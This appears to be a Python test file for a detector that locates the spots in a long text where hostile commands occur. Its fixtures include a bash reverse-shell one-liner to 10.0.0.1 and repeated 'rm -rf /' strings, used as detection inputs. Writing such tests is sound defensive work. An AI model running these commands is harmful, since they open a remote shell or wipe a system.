"""Where in a long text to look."""

from __future__ import annotations

import itertools

from hypothesis import given
from hypothesis import strategies as st

from gmcp_sandbox.pipeline.windows import LOOKED_AT, telling_places


def test_a_known_attack_is_found_before_telling_words():
    text = b"subprocess " * 3 + b" " * 200 + b"bash -i >& /dev/tcp/10.0.0.1/9 0>&1"
    assert telling_places(text, 1)[0] > 200


def test_places_are_few_and_apart():
    places = telling_places(b"rm -rf / ; " * 100, 3)
    assert len(places) == 3 and min(b - a for a, b in itertools.pairwise(places)) > 40


def test_a_harmless_text_has_none():
    assert telling_places(b"the quick brown fox " * 50, 3) == []


def test_what_lies_far_behind_is_not_looked_at():
    assert telling_places(b" " * LOOKED_AT + b"rm -rf /", 3) == []


@given(st.binary(max_size=500), st.integers(1, 4))
def test_places_lie_in_the_text(text, limit):
    places = telling_places(text, limit)
    assert len(places) <= limit and all(0 <= place < len(text) for place in places)
